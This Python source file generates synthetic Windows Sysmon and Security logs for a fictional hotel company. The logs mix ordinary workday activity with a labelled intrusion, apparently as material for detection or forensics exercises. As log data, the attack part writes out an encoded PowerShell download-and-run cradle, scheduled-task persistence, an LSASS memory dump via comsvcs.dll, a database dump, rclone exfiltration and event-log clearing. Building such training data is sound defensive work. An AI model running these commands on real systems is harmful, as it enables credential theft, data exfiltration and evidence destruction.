"""What Windows machines recorded (Sysmon and Security events as JSON lines): working days, and an intrusion from a document to a packed database."""

import base64
import json
from datetime import datetime, timedelta, timezone
from typing import Any

from amanat.prepare.intrusion import DESK_HOST, DOMAIN, GUEST_HOST, INTRUDER, LOOKALIKE, STAGER, VICTIM, Chance, Intrusion
from amanat.prepare.trace_egress import HOSTS
from amanat.prepare.trace_lines import Line

FILE = "logs/endpoints.jsonl"
DOCUMENT = "Planning_equipe_novembre.docm"
_DAYS = 8
_SYSMON, _SECURITY = "Microsoft-Windows-Sysmon/Operational", "Security"
_SYSTEM32, _OFFICE = "C:\\Windows\\System32\\", "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
_POWERSHELL = f"{_SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe"
_EXPLORER, _SERVICES = "C:\\Windows\\explorer.exe", f"{_SYSTEM32}services.exe"
_OFFICES = {DESK_HOST: VICTIM.account, "ws-accounts-01": "j.carre", "ws-groups-01": "e.clarke", "ws-marketing-01": "m.rahimi"}
# Image, command line, parent: what people and machines start all day. {user} is the person at the desk.
_EVERYDAY = (
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", '"chrome.exe" --type=renderer --lang=fr', _EXPLORER),
    (f"{_OFFICE}OUTLOOK.EXE", '"OUTLOOK.EXE"', _EXPLORER),
    (f"{_OFFICE}WINWORD.EXE", '"WINWORD.EXE" /n "C:\\Users\\{user}\\Documents\\Courrier.docx"', _EXPLORER),
    (f"{_OFFICE}EXCEL.EXE", '"EXCEL.EXE" "C:\\Users\\{user}\\Documents\\Occupation_2026.xlsx"', _EXPLORER),
    ("C:\\Program Files\\Karvan\\Desk\\desk.exe", '"desk.exe" --hotel lyon', _EXPLORER),
    (f"{_SYSTEM32}svchost.exe", "svchost.exe -k netsvcs -p -s Schedule", _SERVICES),
    (f"{_SYSTEM32}taskhostw.exe", "taskhostw.exe", f"{_SYSTEM32}svchost.exe"),
    (f"{_SYSTEM32}spoolsv.exe", "spoolsv.exe", _SERVICES),
    ("C:\\Program Files\\7-Zip\\7zG.exe", '"7zG.exe" a "C:\\Users\\{user}\\Desktop\\Photos.zip" "C:\\Users\\{user}\\Pictures\\salle"', _EXPLORER),
    # Administrators use PowerShell too: only how it is used tells the difference.
    (_POWERSHELL, "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1", f"{_SYSTEM32}svchost.exe"),
)


def endpoint_lines(seed: int, story: Intrusion) -> list[Line]:
    """Eight days of events, one JSON object a line."""
    chance, since = Chance(seed, "endpoints"), story.awareness - timedelta(days=_DAYS)
    lines = []
    for day in range(_DAYS):
        begin = since + timedelta(days=day)
        for host, account in _OFFICES.items():
            lines.append(_logon(chance, chance.at_work(begin, begin + timedelta(days=1)), host, account, "-", 2))
            for _ in range(12):
                image, command, parent = _EVERYDAY[chance.below(len(_EVERYDAY))]
                at = chance.at_work(begin, begin + timedelta(days=1))
                lines.append(_process(chance, at, host, account, image, command.replace("{user}", account), parent))
            for _ in range(4):
                at = chance.at_work(begin, begin + timedelta(days=1))
                name = chance.one_of(("www.karvan-hotels.example", "desk.karvan-hotels.example", "news.example.org", "meteo.example.net"))
                lines.append(_dns(chance, at, host, name, "198.51.100.20"))
        # The backup of the guest database, each night.
        at = begin.replace(hour=2, minute=4, second=chance.below(60))
        if at < story.awareness:
            lines.append(_logon(chance, at, GUEST_HOST, "svc-backup", HOSTS["srv-web-01"][0], 3))
            lines.append(_process(chance, at, GUEST_HOST, "svc-backup", "C:\\Backup\\agent.exe", '"agent.exe" --job nightly', _SERVICES))
    return lines + _attack(chance, story)


def _attack(chance: Chance, story: Intrusion) -> list[Line]:
    user = f"C:\\Users\\{VICTIM.account}"
    fetch = f"IEX (New-Object Net.WebClient).DownloadString('https://static.{LOOKALIKE}/u.txt')"
    encoded = base64.b64encode(fetch.encode("utf-16-le")).decode("ascii")
    word, browser = f"{_OFFICE}WINWORD.EXE", _EVERYDAY[0][0]
    lines = []

    def at_desk(moment: datetime, image: str, command: str, parent: str, act: str) -> None:
        lines.append(_process(chance, moment, DESK_HOST, VICTIM.account, image, command, parent, act))

    def on_server(moment: datetime, image: str, command: str, parent: str, act: str) -> None:
        lines.append(_process(chance, moment, GUEST_HOST, "svc-backup", image, command, parent, act))

    second = timedelta(seconds=1)
    # A false log-in page hands out a document, and the document starts PowerShell.
    at, act = story.opened_at, "malicious_document"
    lines.append(_file(chance, at - 40 * second, DESK_HOST, VICTIM.account, browser, f"{user}\\Downloads\\{DOCUMENT}", act))
    at_desk(at, word, f'"WINWORD.EXE" /n "{user}\\Downloads\\{DOCUMENT}"', browser, act)
    at_desk(at + 9 * second, _POWERSHELL, f"powershell.exe -nop -w hidden -enc {encoded}", word, act)
    lines.append(_dns(chance, at + 10 * second, DESK_HOST, f"static.{LOOKALIKE}", STAGER, _POWERSHELL, act))
    lines.append(_connection(chance, at + 11 * second, DESK_HOST, VICTIM.account, _POWERSHELL, STAGER, act))
    task = f'schtasks.exe /create /sc minute /mo 30 /tn "OneDrive Sync" /tr "powershell.exe -w hidden -f {user}\\AppData\\Roaming\\s.ps1" /f'
    at_desk(at + 26 * second, f"{_SYSTEM32}schtasks.exe", task, _POWERSHELL, act)
    # What is here, and who is powerful?
    at, act = story.looked_around_at, "discovery"
    questions = ("whoami.exe /all", 'net.exe group "Domain Admins" /domain', "nltest.exe /domain_trusts", "ipconfig.exe /all", "net.exe view /all")
    for n, command in enumerate(questions):
        at_desk(at + (17 * n + chance.below(9)) * second, _SYSTEM32 + command.split(" ")[0], command, _POWERSHELL, act)
    # Passwords from the memory of the log-in service.
    at, act, rundll = story.dumped_at, "credential_access", f"{_SYSTEM32}rundll32.exe"
    at_desk(at, rundll, "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 668 C:\\Users\\Public\\d.dmp full", _POWERSHELL, act)
    lines.append(_memory(chance, at + second, DESK_HOST, rundll, f"{_SYSTEM32}lsass.exe", act))
    lines.append(_file(chance, at + 2 * second, DESK_HOST, VICTIM.account, rundll, "C:\\Users\\Public\\d.dmp", act))
    # On to the server of the booking system, with the account of the backup.
    at, act = story.dumped_at + 14 * 60 * second, "lateral_movement"
    lines.append(_logon(chance, at, GUEST_HOST, "svc-backup", HOSTS[DESK_HOST][0], 3, act))
    on_server(
        at + 2 * second, f"{_SYSTEM32}cmd.exe", "cmd.exe /Q /c hostname 1> \\\\127.0.0.1\\ADMIN$\\__1 2>&1", f"{_SYSTEM32}wbem\\WmiPrvSE.exe", act
    )
    # The database is copied out and packed under a password.
    at, act = story.packed_at, "archive"
    on_server(
        at, "C:\\Program Files\\MySQL\\bin\\mysqldump.exe", "mysqldump.exe --all-databases -r C:\\PerfLogs\\pms.sql", f"{_SYSTEM32}cmd.exe", act
    )
    pack = "7z.exe a -mhe=on -pNightPorter1 -v400m C:\\PerfLogs\\k.7z C:\\PerfLogs\\pms.sql D:\\Shares\\Reservations"
    on_server(at + 540 * second, "C:\\PerfLogs\\7z.exe", pack, f"{_SYSTEM32}cmd.exe", act)
    lines += [
        _file(chance, at + (600 + 70 * n) * second, GUEST_HOST, "svc-backup", "C:\\PerfLogs\\7z.exe", f"C:\\PerfLogs\\k.7z.{n + 1:03}", act)
        for n in range(9)
    ]
    # And it leaves.
    at, act, rclone = story.left_at, "data_leaving", "C:\\PerfLogs\\rclone.exe"
    on_server(at, rclone, "rclone.exe copy C:\\PerfLogs remote:k --transfers 4 --no-check-certificate", f"{_SYSTEM32}cmd.exe", act)
    lines += [_connection(chance, at + (3 + 41 * n) * second, GUEST_HOST, "svc-backup", rclone, INTRUDER, act) for n in range(4)]
    clear = f"{_SYSTEM32}wevtutil.exe"
    on_server(story.gone_at, clear, "wevtutil.exe cl Security", f"{_SYSTEM32}cmd.exe", "covering_tracks")
    return lines


def _process(chance: Chance, at: datetime, host: str, account: str, image: str, command: str, parent: str, act: str = "") -> Line:
    more = {
        "Image": image, "OriginalFileName": image.rsplit("\\", 1)[1], "CommandLine": command, "CurrentDirectory": "C:\\Windows\\system32\\",
        "IntegrityLevel": "High" if account.startswith("svc-") else "Medium", "Hashes": f"SHA256={chance.hex(64).upper()}",
        "ParentImage": parent, "ParentCommandLine": f'"{parent}"', "ParentProcessId": 400 + 4 * chance.below(4000),
    }  # fmt: skip
    return _sysmon(chance, at, host, account, 1, more, act)


def _file(chance: Chance, at: datetime, host: str, account: str, image: str, path: str, act: str) -> Line:
    return _sysmon(chance, at, host, account, 11, {"Image": image, "TargetFilename": path, "CreationUtcTime": _utc(at)}, act)


def _connection(chance: Chance, at: datetime, host: str, account: str, image: str, to: str, act: str) -> Line:
    more = {
        "Image": image, "Protocol": "tcp", "Initiated": "true", "SourceIp": HOSTS[host][0], "SourcePort": 49_152 + chance.below(16_000),
        "DestinationIp": to, "DestinationPort": 443, "DestinationHostname": "-",
    }  # fmt: skip
    return _sysmon(chance, at, host, account, 3, more, act)


def _dns(chance: Chance, at: datetime, host: str, name: str, answer: str, image: str = _EVERYDAY[0][0], act: str = "") -> Line:
    more = {"Image": image, "QueryName": name, "QueryStatus": "0", "QueryResults": f"::ffff:{answer};"}
    return _sysmon(chance, at, host, _OFFICES[host], 22, more, act)


def _memory(chance: Chance, at: datetime, host: str, source: str, target: str, act: str) -> Line:
    trace = "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\comsvcs.dll+2a3b1"
    more = {"SourceImage": source, "TargetImage": target, "GrantedAccess": "0x1FFFFF", "CallTrace": trace}
    return _sysmon(chance, at, host, _OFFICES[host], 10, more, act)


def _logon(chance: Chance, at: datetime, host: str, account: str, address: str, type_: int, act: str = "") -> Line:
    more = {
        "TargetUserName": account, "TargetDomainName": "KARVAN", "LogonType": type_, "IpAddress": address,
        "AuthenticationPackageName": "NTLM" if act else "Kerberos",
        "TargetLogonId": f"0x{chance.hex(6)}", "ElevatedToken": "%%1842" if account.startswith("svc-") else "%%1843",
    }  # fmt: skip
    return _event(at, host, _SECURITY, 4624, more, act)


def _sysmon(chance: Chance, at: datetime, host: str, account: str, id_: int, more: dict[str, Any], act: str) -> Line:
    mine = {
        "RuleName": "-", "UtcTime": _utc(at), "ProcessGuid": f"{{{chance.hex(8)}-{chance.hex(4)}-{chance.hex(4)}-0000-{chance.hex(12)}}}",
        "ProcessId": 400 + 4 * chance.below(4000), "User": f"KARVAN\\{account}",
    }  # fmt: skip
    return _event(at, host, _SYSMON, id_, mine | more, act)


def _event(at: datetime, host: str, channel: str, id_: int, more: dict[str, Any], act: str) -> Line:
    moment = at.astimezone(timezone.utc)
    provider = "Microsoft-Windows-Sysmon" if channel == _SYSMON else "Microsoft-Windows-Security-Auditing"
    head = {
        "@timestamp": f"{moment:%Y-%m-%dT%H:%M:%S}.{moment.microsecond // 1000:03}Z",
        "Channel": channel,
        "Provider_Name": provider,
        "EventID": id_,
    }
    return Line(at, json.dumps(head | {"Computer": f"{host}.{DOMAIN}"} | more), act)


def _utc(at: datetime) -> str:
    moment = at.astimezone(timezone.utc)
    return f"{moment:%Y-%m-%d %H:%M:%S}.{moment.microsecond // 1000:03}"
